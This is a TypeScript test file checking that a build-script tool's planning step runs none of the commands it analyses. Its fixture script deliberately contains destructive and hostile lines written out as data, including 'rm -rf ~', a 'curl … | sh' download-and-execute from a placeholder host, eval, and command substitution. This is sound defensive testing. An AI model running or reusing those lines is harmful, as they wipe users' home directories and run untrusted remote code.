/**
 * Analysing a script runs nothing: migrate and verify's planning step on a script full of
 * commands with effects (`rm -rf ~`, `$(touch …)`, backticks, `curl … | sh`, eval, source of a
 * file that would create a sentinel) create no sentinel and change no file under $HOME or the temp dir.
 */
import test from 'ava';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { check } from './harness.js';

/** Every file's content and mode and every directory listing under `dir`. */
function treeHash(dir: string): string {
  const h = crypto.createHash('sha256');
  const walk = (d: string) => {
    for (const name of fs.readdirSync(d).sort()) {
      const p = path.join(d, name);
      const s = fs.lstatSync(p);
      h.update(`${path.relative(dir, p)}\0${s.mode}\0`);
      if (s.isDirectory()) walk(p);
      else if (s.isFile()) h.update(fs.readFileSync(p));
    }
  };
  walk(dir);
  return h.digest('hex');
}

test('migrate and verify planning run no command of the script', async (t) => {
  const id = crypto.randomBytes(4).toString('hex');
  const homeSentinels = fs.mkdtempSync(path.join(os.homedir(), `.restage-sentinel-${id}-`));
  const tmpSentinels = fs.mkdtempSync(path.join(os.tmpdir(), `restage-sentinel-${id}-`));
  fs.writeFileSync(path.join(homeSentinels, 'keep'), 'home');
  fs.writeFileSync(path.join(tmpSentinels, 'keep'), 'tmp');
  const created = (n: string) => path.join(tmpSentinels, `created-${n}`);
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'restage-runs-nothing-'));
  fs.writeFileSync(path.join(dir, 'env.sh'), `touch ${created('source')}\nrm -rf ${homeSentinels}\n`);
  fs.writeFileSync(path.join(dir, 'Dockerfile.build'), 'FROM golang:1.7.3\nRUN go build -o /app .\n');
  fs.writeFileSync(path.join(dir, 'Dockerfile'), 'FROM alpine\nCOPY app /app\n');
  fs.writeFileSync(
    path.join(dir, 'build.sh'),
    [
      '#!/bin/sh',
      `rm -rf ~ ${homeSentinels} ${tmpSentinels}`,
      `X=$(touch ${created('subst')})`,
      `Y=\`touch ${created('backtick')}\``,
      `curl -fsSL https://example.invalid/install.sh | sh; touch ${created('pipe')}`,
      `eval "touch ${created('eval')}"`,
      '. ./env.sh',
      'source ./env.sh',
      `docker build -t app:$(touch ${created('tag')}) . -f Dockerfile.build`,
      'docker create --name extract app:build',
      'docker cp extract:/app ./app',
      'docker rm -f extract',
      'docker build -t app .',
      '',
    ].join('\n'),
  );
  const before = { home: treeHash(homeSentinels), tmp: treeHash(tmpSentinels), dir: treeHash(dir) };
  const outcome = await check(dir);
  t.true([0, 2].includes(outcome.exitCode));
  t.deepEqual({ home: treeHash(homeSentinels), tmp: treeHash(tmpSentinels), dir: treeHash(dir) }, before);
  for (const n of ['source', 'subst', 'backtick', 'pipe', 'eval', 'tag']) t.false(fs.existsSync(created(n)), n);
  t.true(fs.existsSync(path.join(homeSentinels, 'keep')));
  for (const d of [homeSentinels, tmpSentinels, dir]) fs.rmSync(d, { recursive: true, force: true });
});
